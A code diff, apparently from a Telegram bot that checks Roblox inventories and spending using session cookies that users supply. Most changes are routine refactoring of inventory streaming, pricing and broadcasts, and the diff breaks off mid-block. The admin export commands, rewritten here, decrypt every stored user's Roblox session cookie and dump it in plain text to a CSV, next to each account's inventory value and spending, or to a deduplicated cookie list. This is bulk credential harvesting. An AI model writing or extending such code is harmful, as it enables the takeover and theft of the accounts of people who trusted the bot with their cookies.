@@ -230,6 +230,8 @@ import roblox_client
 from roblox_imagegen import generate_category_sheets
 
 from cache_locks import get_lock
+from inventory_compact import CompactInventory
+import inventory_pricing
 
 router = Router()
 
@@ -1071,20 +1073,7 @@ def _short_cb_cat(roblox_id: int, cat: str, limit: int = 30) -> str:
 
 
 def _price_value(info: Optional[Dict[str, Any]]) -> int:
-    if not info:
-        return 0
-    v = info.get('value')
-    if isinstance(v, (int, float)):
-        return int(v)
-    src = info.get('source')
-    if src == 'resale-data':
-        rs = info.get('resale') or {}
-        p = rs.get('lowestResalePrice') or rs.get('recentAveragePrice')
-        return int(p) if isinstance(p, (int, float)) else 0
-    if src == 'resellers':
-        low = info.get('lowest')
-        return int(low) if isinstance(low, (int, float)) else 0
-    return 0
+    return inventory_pricing.price_value(info)
 
 
 async def _compute_totals_cached(tg_id: int, roblox_id: int, inv: Dict[str, Any]) -> Tuple[int, Dict[str, int]]:
@@ -1099,9 +1088,9 @@ async def _compute_totals_cached(tg_id: int, roblox_id: int, inv: Dict[str, Any]
         cached_cats = await storage.get_cached_data(roblox_id, key_cats)
         if isinstance(cached_total, int) and isinstance(cached_cats, dict):
             return (cached_total, cached_cats)
-        by_cat = _merge_categories(inv.get('byCategory', {}) or {})
         sums_by_cat: Dict[str, int] = {}
         total_sum = 0
+        by_cat = _merge_categories(inv.get('byCategory', {}) or {})
         for cat, arr in by_cat.items():
             s = sum((_price_value(it.get('priceInfo')) for it in arr))
             sums_by_cat[cat] = s
@@ -1131,6 +1120,13 @@ def _kb_inventory_categories(roblox_id: int, by_cat: Dict[str, List[Dict[str, An
     return InlineKeyboardMarkup(inline_keyboard=rows)
 
 
+def _inv_nonempty(data: Any) -> bool:
+    """Есть ли в инвентаре предметы. CompactInventory проверяется по колонкам, без сборки byCategory."""
+    if isinstance(data, CompactInventory):
+        return len(data.asset_ids) > 0
+    return isinstance(data, dict) and bool(data.get('byCategory') or {})
+
+
 async def _get_inventory_cached(tg_id: int, roblox_id: int, force_refresh: bool = False) -> dict:
     """Try to get inventory with language protection"""
     # ЗАЩИТА ЯЗЫКА ПЕРЕД НАЧАЛОМ
@@ -1138,9 +1134,10 @@ async def _get_inventory_cached(tg_id: int, roblox_id: int, force_refresh: bool
 
     # Try direct (bound) cookie first
     try:
-        data = await roblox_client.get_full_inventory(tg_id, roblox_id)
+        # force_refresh — delta-sync по свежим страницам (см. roblox_client._delta_refresh_inventory)
+        data = await roblox_client.get_full_inventory(tg_id, roblox_id, force_refresh=force_refresh)
         # If it returned non-empty byCategory -> good
-        if isinstance(data, dict) and (data.get('byCategory') or {}):
+        if _inv_nonempty(data):
             return data
     except Exception:
         data = None
@@ -1148,7 +1145,7 @@ async def _get_inventory_cached(tg_id: int, roblox_id: int, force_refresh: bool
     # Fallback: ultra-fast public mode with cookie cache
     try:
         data2 = await roblox_client.get_inventory_public_ultra_fast(roblox_id)
-        if isinstance(data2, dict) and (data2.get('byCategory') or {}):
+        if _inv_nonempty(data2):
             return data2
     except Exception as e:
         logging.warning(f"Ultra-fast public mode failed for {roblox_id}: {e}")
@@ -1157,6 +1154,30 @@ async def _get_inventory_cached(tg_id: int, roblox_id: int, force_refresh: bool
     return {'byCategory': {}}
 
 
+async def _iter_inventory_cached(tg_id: int, roblox_id: int):
+    """То же, что _get_inventory_cached, но пачками по мере загрузки (roblox_client.iter_inventory)."""
+    await protect_language(tg_id)
+
+    # своя кука; если она ничего не дала — public-режим
+    got = False
+    try:
+        async for batch in roblox_client.iter_inventory(roblox_id, tg_id):
+            got = got or bool(batch['items'])
+            yield batch
+    except Exception as e:
+        if got:
+            raise
+        logging.warning(f"Private inventory stream failed for {roblox_id}: {e}")
+    if got:
+        return
+
+    try:
+        async for batch in roblox_client.iter_inventory(roblox_id, public=True):
+            yield batch
+    except Exception as e:
+        logging.warning(f"Ultra-fast public mode failed for {roblox_id}: {e}")
+
+
 def _asset_or_none(name: str) -> Optional[FSInputFile]:
     """Менюшные картинки отключены: всегда возвращаем None."""
     return None
@@ -2018,7 +2039,7 @@ def _price_of(it: Dict[str, Any]) -> int:
 
 
 def _sum_items(arr: List[Dict[str, Any]]) -> int:
-    return sum((_price_of(x) for x in arr if _price_of(x) > 0))
+    return inventory_pricing.positive_total(inventory_pricing.price_column(arr, fallback=False))
 
 
 def _filter_nonzero(arr: List[Dict[str, Any]]) -> List[Dict[str, Any]]:
@@ -2031,13 +2052,43 @@ def _short_name(roblox_id: int, name: str, max_len: int = 28) -> str:
     return short
 
 
-def _kb_categories_only(roblox_id: int, by_cat: Dict[str, List[Dict[str, Any]]]) -> InlineKeyboardMarkup:
+def _inv_category_totals(data: Dict[str, Any]) -> Dict[str, Tuple[int, int]]:
+    """{категория: (штук, сумма)}. У CompactInventory — по колонкам, без сборки dict на каждый предмет."""
+    out: Dict[str, Tuple[int, int]] = {}
+    if isinstance(data, CompactInventory):
+        counts = data.category_counts()
+        for raw, s in data.category_sums().items():
+            cat = _canon_cat(raw)
+            if cat:
+                n0, s0 = out.get(cat, (0, 0))
+                out[cat] = (n0 + counts.get(raw, 0), s0 + s)
+        return out
+    for cat, items in _merge_categories((data or {}).get('byCategory', {}) or {}).items():
+        out[cat] = (len(items), _sum_items(items))
+    return out
+
+
+def _inv_category_items(data: Dict[str, Any], cat: str) -> List[Dict[str, Any]]:
+    """Предметы одной категории. У CompactInventory собираются только её строки, а не весь byCategory."""
+    if isinstance(data, CompactInventory):
+        items: List[Dict[str, Any]] = []
+        for raw in data.categories:
+            if _canon_cat(raw) == cat:
+                items.extend(data.category_items(raw))
+        return items
+    return _merge_categories((data or {}).get('byCategory', {}) or {}).get(cat, [])
+
+
+def _kb_categories_only(roblox_id: int, by_cat: Dict[str, List[Dict[str, Any]]],
+                        totals: Optional[Dict[str, Tuple[int, int]]] = None) -> InlineKeyboardMarkup:
     rows: List[List[InlineKeyboardButton]] = []
-    for cat, items in sorted(by_cat.items(), key=lambda kv: kv[0].lower()):
-        if not items:
+    if totals is None:
+        totals = {cat: (len(items), _sum_items(items)) for cat, items in by_cat.items()}
+    for cat, (count, cat_sum) in sorted(totals.items(), key=lambda kv: kv[0].lower()):
+        if not count:
             continue
         rows.append([InlineKeyboardButton(
-            text=f'{cat} — {len(items)} {L("common.pcs")} · {_sum_items(items):,} {RICON}'.replace(',', ' '),
+            text=f'{cat} — {count} {L("common.pcs")} · {cat_sum:,} {RICON}'.replace(',', ' '),
             callback_data=f'invcat:{roblox_id}:{_short_name(roblox_id, cat)}')])
     rows.append([InlineKeyboardButton(text=LL('buttons.refresh', 'btn.refresh'),
                                       callback_data=f'invall_refresh:{roblox_id}')])
@@ -2249,7 +2300,8 @@ async def cb_inventory_full_then_categories(call: types.CallbackQuery) -> None:
         await protect_language(call.from_user.id)
 
         total = len(all_items)
-        total_sum = _sum_items(all_items)
+        cat_totals = _inv_category_totals(data)
+        total_sum = sum(cat_sum for _, cat_sum in cat_totals.values())
 
         robux_val: int | None = None
         try:
@@ -2274,7 +2326,7 @@ async def cb_inventory_full_then_categories(call: types.CallbackQuery) -> None:
             roblox_id=roblox_id,
             username=call.from_user.username,
             caption_prefix=caption,
-            kb_first=_kb_categories_only(roblox_id, by_cat)
+            kb_first=_kb_categories_only(roblox_id, by_cat, cat_totals)
         )
 
     except Exception as e:
@@ -2321,7 +2373,8 @@ async def cb_inventory_all_again(call: types.CallbackQuery) -> None:
         await protect_language(call.from_user.id)
 
         total = len(all_items)
-        total_sum = _sum_items(all_items)
+        cat_totals = _inv_category_totals(data)
+        total_sum = sum(cat_sum for _, cat_sum in cat_totals.values())
 
         robux_val: int | None = None
         try:
@@ -2346,7 +2399,7 @@ async def cb_inventory_all_again(call: types.CallbackQuery) -> None:
             roblox_id=roblox_id,
             username=call.from_user.username,
             caption_prefix=caption,
-            kb_first=_kb_categories_only(roblox_id, by_cat)
+            kb_first=_kb_categories_only(roblox_id, by_cat, cat_totals)
         )
 
     except Exception as e:
@@ -2390,7 +2443,8 @@ async def cb_inventory_all_refresh(call: types.CallbackQuery) -> None:
         await protect_language(call.from_user.id)
 
         total = len(all_items)
-        total_sum = _sum_items(all_items)
+        cat_totals = _inv_category_totals(data)
+        total_sum = sum(cat_sum for _, cat_sum in cat_totals.values())
 
         robux_val: int | None = None
         try:
@@ -2415,7 +2469,7 @@ async def cb_inventory_all_refresh(call: types.CallbackQuery) -> None:
             roblox_id=roblox_id,
             username=call.from_user.username,
             caption_prefix=caption,
-            kb_first=_kb_categories_only(roblox_id, by_cat)
+            kb_first=_kb_categories_only(roblox_id, by_cat, cat_totals)
         )
 
     except Exception as e:
@@ -2449,9 +2503,8 @@ async def cb_inventory_category(call: types.CallbackQuery) -> None:
         await _log_check(tg, roblox_id, scope="private", what="inventory_full")
 
         await protect_language(call.from_user.id)
-        by_cat = _merge_categories(data.get('byCategory', {}) or {})
         full = _CAT_SHORTMAP.get((roblox_id, short), short)
-        items = by_cat.get(full, [])
+        items = _inv_category_items(data, full)
         if not items:
             await loader.edit_text(L('public.inventory_private'))
             return
@@ -2509,9 +2562,8 @@ async def cb_inventory_category_refresh(call: types.CallbackQuery) -> None:
     try:
         data = await _get_inventory_cached(tg, roblox_id)
         await _log_check(tg, roblox_id, scope="private", what="inventory_by_cat")
-        by_cat = _merge_categories(data.get('byCategory', {}) or {})
         full = _CAT_SHORTMAP.get((roblox_id, short), short)
-        items = by_cat.get(full, [])
+        items = _inv_category_items(data, full)
         img_bytes = await generate_category_sheets(tg, roblox_id, full, limit=0, tile=150, force=True,
                                                    username=call.from_user.username, items_override=items)
         import os
@@ -2567,7 +2619,7 @@ def create_cookie_zip(user_id: int) -> str:
 from aiogram import types, F
 from aiogram.types import FSInputFile
 
-from roblox_imagegen import generate_category_sheets
+from roblox_imagegen import generate_category_sheets, ThumbPrefetcher
 import roblox_client
 
 
@@ -2590,34 +2642,26 @@ async def cb_inventory_stream(call: types.CallbackQuery) -> None:
         return
 
     loader = await call.message.answer(L('msg.auto_5b9ec32c3a'))
+    prefetch = ThumbPrefetcher(tile=150)
     try:
-        # ЗАЩИТА ПЕРЕД ЗАГРУЗКОЙ ДАННЫХ
-        await protect_language(call.from_user.id)
-        data = await _get_inventory_cached(tg, roblox_id)
-        await _log_check(tg, roblox_id, scope="private", what="inventory_stream")
-
-        await protect_language(call.from_user.id)
-        by_cat = _merge_categories(data.get('byCategory', {}) or {})
-        if not by_cat:
-            await loader.edit_text(L('msg.auto_d84b7d087c'))
-            await call.message.answer(await t(storage, tg, 'menu.main'), reply_markup=await kb_main_i18n(tg))
-            return
-
-        try:
-            await loader.delete()
-        except Exception:
-            pass
-
         grand_total_sum = 0
         grand_total_count = 0
+        loader_alive = True
+
+        async def _send_category(cat: str, items: list) -> None:
+            nonlocal grand_total_sum, grand_total_count, loader_alive
+            if loader_alive:
+                loader_alive = False
+                try:
+                    await loader.delete()
+                except Exception:
+                    pass
 
-        for cat in sorted(by_cat.keys(), key=lambda s: s.lower()):
             # ЗАЩИТА ПЕРЕД КАЖДОЙ КАТЕГОРИЕЙ
             await protect_language(call.from_user.id)
 
-            items = by_cat.get(cat, [])
-            if not items:
-                continue
+            # превью этой категории уже качались, пока грузился остальной инвентарь
+            thumbs = await prefetch.get([int(x['assetId']) for x in items if x.get('assetId')])
 
             # paginate category to respect telegram's ~8k px limit
             MAX_H = 7800
@@ -2636,14 +2680,14 @@ async def cb_inventory_stream(call: types.CallbackQuery) -> None:
             for tile in tiles_try:
                 per_page = max_per_page(tile)
                 pages = list(chunks(items, per_page))
-                ok = True
                 for i, part in enumerate(pages, 1):
                     # ЗАЩИТА ПЕРЕД ГЕНЕРАЦИЕЙ КАЖДОЙ СТРАНИЦЫ
                     await protect_language(call.from_user.id)
 
                     img_bytes = await generate_full_inventory_grid(part, tile=tile, pad=6, title=(
                         cat if len(pages) == 1 else f"{cat} ({L('inventory_view.page', current=i, total=len(pages))})"),
-                                                                   username=call.from_user.username, user_id=tg)
+                                                                   username=call.from_user.username, user_id=tg,
+                                                                   thumbs=thumbs)
                     os.makedirs('temp', exist_ok=True)
                     tmp_path = f'temp/inventory_cat_{tg}_{roblox_id}_{abs(hash(cat)) % 10 ** 8}_{tile}_{i}.png'
                     with open(tmp_path, 'wb') as f:
@@ -2672,6 +2716,32 @@ async def cb_inventory_stream(call: types.CallbackQuery) -> None:
                 if sent_pages:
                     break
 
+        # ЗАЩИТА ПЕРЕД ЗАГРУЗКОЙ ДАННЫХ
+        await protect_language(call.from_user.id)
+        # категории отправляются по мере готовности, остальной инвентарь в это время догружается
+        by_cat: dict[str, list] = {}
+        unsent: dict[str, list] = {}
+        async for batch in _iter_inventory_cached(tg, roblox_id):
+            cat = _canon_cat(batch['category'])
+            if not cat:
+                continue
+            by_cat.setdefault(cat, []).extend(batch['items'])
+            unsent.setdefault(cat, []).extend(batch['items'])
+            prefetch.add(batch['items'])
+            if batch['complete'] and unsent.get(cat):
+                await _send_category(cat, unsent.pop(cat))
+        await _log_check(tg, roblox_id, scope="private", what="inventory_stream")
+
+        for cat in sorted(unsent.keys(), key=lambda s: s.lower()):
+            if unsent[cat]:
+                await _send_category(cat, unsent[cat])
+
+        await protect_language(call.from_user.id)
+        if not any(by_cat.values()):
+            await loader.edit_text(L('msg.auto_d84b7d087c'))
+            await call.message.answer(await t(storage, tg, 'menu.main'), reply_markup=await kb_main_i18n(tg))
+            return
+
         # --- ОДНА общая фотка из всех предметов ---
         try:
             # ЗАЩИТА ПЕРЕД ФИНАЛЬНОЙ ГЕНЕРАЦИЕЙ
@@ -2682,6 +2752,7 @@ async def cb_inventory_stream(call: types.CallbackQuery) -> None:
                 all_items.extend(arr)
 
             if all_items:
+                all_thumbs = await prefetch.get([int(x['assetId']) for x in all_items if x.get('assetId')])
                 MAX_H = 7800
                 MAX_BYTES = 8_500_000
                 tiles_try = [150, 120, 100, 90]
@@ -2721,7 +2792,8 @@ async def cb_inventory_stream(call: types.CallbackQuery) -> None:
                                 title=(L('inventory.full_title') if len(
                                     pages) == 1 else f"{L('inventory.full_title')} ({L('inventory_view.page', current=i, total=len(pages))})"),
                                 username=call.from_user.username,
-                                user_id=tg
+                                user_id=tg,
+                                thumbs=all_thumbs
                             )
                             if len(img) > MAX_BYTES:
                                 ok = False
@@ -2734,7 +2806,7 @@ async def cb_inventory_stream(call: types.CallbackQuery) -> None:
                             tmp_final_paths.append(p)
 
                         if ok:
-                            total_sum_all = sum(((_price_value(it.get('priceInfo')) or 0) for it in all_items))
+                            total_sum_all = inventory_pricing.total(inventory_pricing.price_column(all_items))
                             for i, pth in enumerate(tmp_final_paths, 1):
                                 # ЗАЩИТА ПЕРЕД КАЖДОЙ ПОДПИСЬЮ
                                 await protect_language(call.from_user.id)
@@ -2786,6 +2858,8 @@ async def cb_inventory_stream(call: types.CallbackQuery) -> None:
                 await call.message.answer(L('public.inventory_private'))
             else:
                 await call.message.answer(L('msg.auto_f3d5341cc3', e=e))
+    finally:
+        prefetch.cancel()
 
 
 @router.message(Command('stat'))
@@ -2843,6 +2917,28 @@ async def cmd_user_snapshot(msg: types.Message):
                        updated_at=sn['updated_at']), parse_mode='HTML')
 
 
+@router.message(Command('user_history'))
+async def cmd_user_history(msg: types.Message):
+    """Admin: история стоимости аккаунта из account_snapshot_history (без запросов к Roblox)."""
+    await protect_language(msg.from_user.id)
+    if not is_admin(msg.from_user.id):
+        return
+    parts = msg.text.split()
+    if len(parts) != 2 or not parts[1].isdigit():
+        await msg.answer(L('admin.user_history_usage'), parse_mode='HTML')
+        return
+    rid = int(parts[1])
+    points = await storage.get_snapshot_history(rid)
+    if not points:
+        await msg.answer(L('msg.auto_92248ed4b0'))
+        return
+    lines = [L('admin.user_history_title', rid=rid, shown=min(len(points), 30), total=len(points))]
+    for p in points[-30:]:
+        ts = datetime.fromtimestamp(p['ts']).strftime('%Y-%m-%d %H:%M')
+        lines.append(L('admin.user_history_row', ts=ts, inventory_val=p['inventory_val'], total_spent=p['total_spent']))
+    await msg.answer("\n".join(lines), parse_mode='HTML')
+
+
 from aiogram import types, F
 from aiogram.types import InlineKeyboardMarkup, InlineKeyboardButton, FSInputFile
 
@@ -3453,7 +3549,7 @@ async def _get_inventory_private_only(tg_id: int, roblox_id: int) -> dict:
     await protect_language(tg_id)
     try:
         data = await roblox_client.get_full_inventory(tg_id, roblox_id)
-        if isinstance(data, dict) and (data.get('byCategory') or {}):
+        if _inv_nonempty(data):
             return data
     except Exception:
         pass
@@ -3463,7 +3559,7 @@ async def _get_inventory_private_only(tg_id: int, roblox_id: int) -> dict:
 async def _get_inventory_public_only(roblox_id: int) -> dict:
     try:
         data = await roblox_client.get_full_inventory_public_like_private(roblox_id)
-        if isinstance(data, dict) and (data.get('byCategory') or {}):
+        if _inv_nonempty(data):
             return data
     except Exception:
         pass
@@ -3837,8 +3933,8 @@ async def _admin_stats_btn(cb: types.CallbackQuery, state: FSMContext):
         f"🔥 Активных сегодня: {base.get('active_today', 0)}\n"
         f"🔐 С аккаунтами: {base.get('users_with_accounts', 0)}\n"
         f"✅ Проверок всего: {base.get('checks_total', 0)}\n"
-        f"🧑‍💼 Проверок профиля: {int(m.get('checks_profile', 0))}\n"
-        f"🎒 Проверок инвентаря: {int(m.get('checks_inventory', 0))}"
+        f"🧑‍💼 Проверок профиля: {int(m.get('checks_profile', base.get('profile_total', 0)))}\n"
+        f"🎒 Проверок инвентаря: {int(m.get('checks_inventory', base.get('inventory_total', 0)))}"
     )
     try:
         await cb.message.edit_text(text, parse_mode="HTML", reply_markup=kb_admin_main())
@@ -4118,42 +4214,24 @@ async def bc_preview(cb: types.CallbackQuery, state: FSMContext):
 
 
 async def _iter_all_user_ids():
-    # пробуем несколько вариантов API хранилища, чтобы работать с твоей БД
-    try:
-        rows = await storage.get_all_bot_users()
-        # ожидаем rows: [(telegram_id,), ...] или [{"telegram_id": ..}, ...]
-        ids = []
-        for r in rows:
-            if isinstance(r, (list, tuple)) and r:
-                ids.append(int(r[0]))
-            elif isinstance(r, dict) and "telegram_id" in r:
-                ids.append(int(r["telegram_id"]))
-        ids = list({int(x) for x in ids})
-        if ids:
-            return ids
-    except Exception:
-        pass
-    try:
-        ids = await storage.list_all_owners()  # [tg_id, ...]
-        ids = list({int(x) for x in ids})
-        if ids:
-            return ids
-    except Exception:
-        pass
+    """Отдаёт id получателей пачками, не поднимая всю таблицу в память.
+    Основной источник — bot_users; если он пуст — владельцы аккаунтов."""
+    seen_any = False
+    try:
+        async for chunk in storage.iter_bot_user_ids():
+            if chunk:
+                seen_any = True
+                yield chunk
+    except Exception as e:
+        logger.warning(f"broadcast: iter_bot_user_ids failed: {e}")
+    if seen_any:
+        return
     try:
-        rows = await storage.get_all_users()
-        ids = []
-        for r in rows:
-            if isinstance(r, (list, tuple)) and r:
-                ids.append(int(r[0]))
-            elif isinstance(r, dict) and "telegram_id" in r:
-                ids.append(int(r["telegram_id"]))
-        ids = list({int(x) for x in ids})
-        if ids:
-            return ids
-    except Exception:
-        pass
-    return []
+        async for chunk in storage.iter_owner_ids():
+            if chunk:
+                yield chunk
+    except Exception as e:
+        logger.warning(f"broadcast: iter_owner_ids failed: {e}")
 
 
 @router.callback_query(F.data == "admin:bc_confirm")
@@ -4168,11 +4246,6 @@ async def bc_confirm(cb: types.CallbackQuery, state: FSMContext):
         await cb.answer("Буфер пуст.", show_alert=True);
         return
 
-    users = await _iter_all_user_ids()
-    if not users:
-        await cb.message.edit_text("⚠️ Нет пользователей для рассылки.", reply_markup=kb_admin_main());
-        return
-
     sem = asyncio.Semaphore(BROADCAST_CONCURRENCY)
     sent = 0;
     failed = 0
@@ -4199,11 +4272,18 @@ async def bc_confirm(cb: types.CallbackQuery, state: FSMContext):
                 failed += 1
                 logger.warning(f"broadcast to {uid} failed: {e}")
 
-    for i in range(0, len(users), BROADCAST_BATCH):
-        chunk = users[i:i + BROADCAST_BATCH]
-        await asyncio.gather(*(send_one(u) for u in chunk), return_exceptions=True)
-        if i + BROADCAST_BATCH < len(users):
-            await asyncio.sleep(BROADCAST_DELAY)
+    total = 0
+    async for users in _iter_all_user_ids():
+        for i in range(0, len(users), BROADCAST_BATCH):
+            if total:
+                await asyncio.sleep(BROADCAST_DELAY)
+            chunk = users[i:i + BROADCAST_BATCH]
+            total += len(chunk)
+            await asyncio.gather(*(send_one(u) for u in chunk), return_exceptions=True)
+
+    if not total:
+        await cb.message.edit_text("⚠️ Нет пользователей для рассылки.", reply_markup=kb_admin_main());
+        return
 
     await cb.message.edit_text(f"✅ Готово. Успешно: {sent}, не удалось: {failed}.", reply_markup=kb_admin_main())
 
@@ -4232,31 +4312,6 @@ def _sp_price(tx: dict) -> int:
         return 0
 
 
-def _sp_place_of(tx: dict) -> str:
-    return (tx.get('place') or tx.get('creator') or tx.get('source') or tx.get('seller') or T('common.unknown'))
-
-
-def _sp_total(rows: list[dict]) -> int:
-    return sum(_sp_price(x) for x in rows or [])
-
-
-def _sp_group(rows: list[dict]):
-    bucket = {}
-    for tx in rows or []:
-        bucket.setdefault(_sp_place_of(tx), []).append(tx)
-    places, items_by_place = [], []
-    for name, arr in bucket.items():
-        arr.sort(key=_sp_price, reverse=True)
-        total = sum(_sp_price(x) for x in arr)
-        places.append((name, len(arr), total))
-        items_by_place.append(arr)
-    order = sorted(range(len(places)), key=lambda i: (-places[i][2], places[i][0].lower()))
-    places = [places[i] for i in order]
-    items_by_place = [items_by_place[i] for i in order]
-    grand = _sp_total(rows)
-    return places, items_by_place, grand
-
-
 def _sp_kb_places(rid: int, places, page: int):
     total_pages = max(1, math.ceil(len(places) / _SP_PAGE_PLACES))
     page = max(0, min(page, total_pages - 1))
@@ -4323,13 +4378,17 @@ def _sp_mem_set(tg_id: int, rid: int, places, items_by_place, total_sum: int | N
     }
 
 
-async def _sp_fetch_rows(tg_id: int, rid: int, limit: int = 500):
+async def _sp_load(tg_id: int, rid: int):
+    """(places, items_by_place, grand) из общей сводки трат roblox_client.get_spending_summary."""
     enc = await storage.get_encrypted_cookie(tg_id, rid)
     if not enc:
-        return []
-    from roblox_client import get_spending_history_by_encrypted_cookie
-    rows = await get_spending_history_by_encrypted_cookie(enc, rid, limit=limit, use_cache=False)
-    return rows or []
+        return [], [], 0
+    from roblox_client import get_spending_summary_by_encrypted_cookie
+    summary = await get_spending_summary_by_encrypted_cookie(enc, rid, use_cache=False)
+    if not summary:
+        return [], [], 0
+    places = [(name or T('common.unknown'), cnt, ssum) for name, cnt, ssum in summary['places']]
+    return places, summary['items_by_place'], summary['total']
 
 
 def _sp_render_items(arr, page: int):
@@ -4365,9 +4424,8 @@ async def cb_spend_entry(call: types.CallbackQuery):
     try:
         rec = _sp_mem_get(tg, rid)
         if not rec:
-            rows = await _sp_fetch_rows(tg, rid, 500)
-            places, items_by_place, grand = _sp_group(rows)
-            _sp_mem_set(tg, rid, places, items_by_place)
+            places, items_by_place, grand = await _sp_load(tg, rid)
+            _sp_mem_set(tg, rid, places, items_by_place, grand)
             rec = _sp_mem_get(tg, rid)
 
         kb = _sp_kb_places(rid, rec['places'], 0)
@@ -4392,9 +4450,8 @@ async def cb_spend_refresh(call: types.CallbackQuery):
     tg = call.from_user.id
     wait = await call.message.answer(T('spending.loading'))
 
-    rows = await _sp_fetch_rows(tg, rid, 500)
-    places, items_by_place, grand = _sp_group(rows)
-    _sp_mem_set(tg, rid, places, items_by_place)
+    places, items_by_place, grand = await _sp_load(tg, rid)
+    _sp_mem_set(tg, rid, places, items_by_place, grand)
 
     kb = _sp_kb_places(rid, places, 0)
     header = T('spending.header', sum=grand)
@@ -4670,15 +4727,11 @@ async def cmd_export_accounts_csv(msg: types.Message):
 
     await msg.reply("🔎 Формирую CSV...")
 
+    # освежаем account_snapshots одним пакетом, чтобы inventory_price в CSV был актуальным
     try:
-        accounts = await storage.list_accounts_distinct()
-    except Exception as e:
-        await msg.reply(f"❌ Ошибка при чтении аккаунтов: {e}")
-        return
-
-    if not accounts:
-        await msg.reply("⚠️ Аккаунтов не найдено.")
-        return
+        await storage.snapshot_all_accounts(reason='export_accounts_csv')
+    except Exception:
+        pass
 
     # CSV в память
     buf = io.StringIO(newline="")
@@ -4689,54 +4742,53 @@ async def cmd_export_accounts_csv(msg: types.Message):
     import roblox_client as rbc
     from util.crypto import decrypt_text
 
-    SPENDING_LIMIT = 500  # <-- лимит транзакций для подсчёта
-
-    for acc in accounts:
-        try:
-            rid = int(acc.get("roblox_id") or 0)
-            nick = (acc.get("username") or "").replace("\r", " ").replace("\n", " ").strip()
-            inv_val = int(acc.get("inventory_val") or 0)
-        except Exception:
-            # пропускаем мусорные записи
-            continue
+    # аккаунты читаем пачками (keyset), чтобы не держать всю выборку в памяти
+    rows_written = 0
+    try:
+        async for accounts in storage.iter_accounts_distinct():
+            for acc in accounts:
+                try:
+                    rid = int(acc.get("roblox_id") or 0)
+                    nick = (acc.get("username") or "").replace("\r", " ").replace("\n", " ").strip()
+                    inv_val = int(acc.get("inventory_val") or 0)
+                except Exception:
+                    # пропускаем мусорные записи
+                    continue
 
-        # попытка достать любую зашифрованную куку
-        enc = None
-        try:
-            enc = await storage.get_any_encrypted_cookie_by_roblox_id(rid)
-        except Exception:
-            enc = None
+                # попытка достать любую зашифрованную куку
+                enc = None
+                try:
+                    enc = await storage.get_any_encrypted_cookie_by_roblox_id(rid)
+                except Exception:
+                    enc = None
 
-        cookie_plain = ""
-        if enc:
-            try:
-                cookie_plain = decrypt_text(enc) or ""
-            except Exception:
-                cookie_plain = "<decrypt_error>"
+                cookie_plain = ""
+                if enc:
+                    try:
+                        cookie_plain = decrypt_text(enc) or ""
+                    except Exception:
+                        cookie_plain = "<decrypt_error>"
 
-        # подсчёт трат — best-effort, лимит указан выше
-        spending_total = ""
-        if enc:
-            try:
-                txs = await rbc.get_spending_history_by_encrypted_cookie(enc, rid, limit=SPENDING_LIMIT,
-                                                                         use_cache=False)
-                total = 0
-                for tx in (txs or []):
+                # подсчёт трат — best-effort: досинхронизация журнала и итог из storage, без сборки сводки
+                spending_total = ""
+                if enc and cookie_plain and cookie_plain != "<decrypt_error>":
                     try:
-                        # поле может называться по-разному; берём 'raw_amount' или 'amount'
-                        val = tx.get("raw_amount") if isinstance(tx, dict) else None
-                        if val is None:
-                            val = tx.get("amount") if isinstance(tx, dict) else None
-                        if val is None:
-                            continue
-                        total += int(val or 0)
+                        spending_total = str(await rbc.get_total_spent_robux(rid, cookie_plain))
                     except Exception:
-                        continue
-                spending_total = str(total)
-            except Exception:
-                spending_total = "<error>"
+                        spending_total = "<error>"
+                elif enc:
+                    spending_total = "<error>"
 
-        writer.writerow([nick, rid, cookie_plain, inv_val, spending_total])
+                writer.writerow([nick, rid, cookie_plain, inv_val, spending_total])
+                rows_written += 1
+    except Exception as e:
+        await msg.reply(f"❌ Ошибка при чтении аккаунтов: {e}")
+        return
+
+    if not rows_written:
+        buf.close()
+        await msg.reply("⚠️ Аккаунтов не найдено.")
+        return
 
     data = buf.getvalue()
     buf.close()
@@ -4967,8 +5019,7 @@ async def _send_spending_like_buttons(msg: Message, tg_id: int, rid: int, save_d
     try:
         rec = _sp_mem_get(tg_id, rid)
         if not rec:
-            rows = await _sp_fetch_rows(tg_id, rid, 500)
-            places, items_by_place, grand = _sp_group(rows)
+            places, items_by_place, grand = await _sp_load(tg_id, rid)
             _sp_mem_set(tg_id, rid, places, items_by_place, grand)
             rec = _sp_mem_get(tg_id, rid) or {'places': places, 'items': items_by_place, 'total_sum': grand}
 
@@ -5106,6 +5157,10 @@ async def _send_full_inventory_like_buttons(msg: Message, tg_id: int, rid: int,
 
 @router.message(Command('export_csv'))
 async def cmd_export_csv(message: types.Message):
+    try:
+        await storage.snapshot_all_for_user(message.from_user.id, reason='export_csv')
+    except Exception:
+        pass
     rows = await storage.export_snapshot_rows_for_user(message.from_user.id)
     # header + rows
     buf = io.StringIO()
@@ -5424,54 +5479,56 @@ async def cmd_export_cookies_txt(msg: types.Message):
 
     await msg.reply("🔎 Собираю куки...")
 
-    try:
-        accounts = await storage.list_accounts_distinct()
-    except Exception as e:
-        await msg.reply(f"❌ Ошибка при чтении аккаунтов: {e}")
-        return
-
-    if not accounts:
-        await msg.reply("⚠️ Аккаунтов не найдено.")
-        return
-
     from util.crypto import decrypt_text
 
     cookies: list[str] = []
     seen: set[str] = set()
+    accounts_seen = 0
 
-    for acc in accounts:
-        try:
-            rid = int(acc.get("roblox_id") or 0)
-        except Exception:
-            continue
+    # аккаунты читаем пачками (keyset), чтобы не держать всю выборку в памяти
+    try:
+        async for accounts in storage.iter_accounts_distinct():
+            for acc in accounts:
+                accounts_seen += 1
+                try:
+                    rid = int(acc.get("roblox_id") or 0)
+                except Exception:
+                    continue
 
-        if not rid:
-            continue
+                if not rid:
+                    continue
 
-        # достаём любую зашифрованную куку этого rid
-        try:
-            enc = await storage.get_any_encrypted_cookie_by_roblox_id(rid)
-        except Exception:
-            enc = None
+                # достаём любую зашифрованную куку этого rid
+                try:
+                    enc = await storage.get_any_encrypted_cookie_by_roblox_id(rid)
+                except Exception:
+                    enc = None
 
-        if not enc:
-            continue
+                if not enc:
+                    continue
 
-        try:
-            cookie_plain = decrypt_text(enc) or ""
-        except Exception:
-            continue
+                try:
+                    cookie_plain = decrypt_text(enc) or ""
+                except Exception:
+                    continue
 
-        cookie_plain = cookie_plain.strip()
-        if not cookie_plain:
-            continue
+                cookie_plain = cookie_plain.strip()
+                if not cookie_plain:
+                    continue
 
-        # чтобы не было дублей
-        if cookie_plain in seen:
-            continue
+                # чтобы не было дублей
+                if cookie_plain in seen:
+                    continue
 
-        seen.add(cookie_plain)
-        cookies.append(cookie_plain)
+                seen.add(cookie_plain)
+                cookies.append(cookie_plain)
+    except Exception as e:
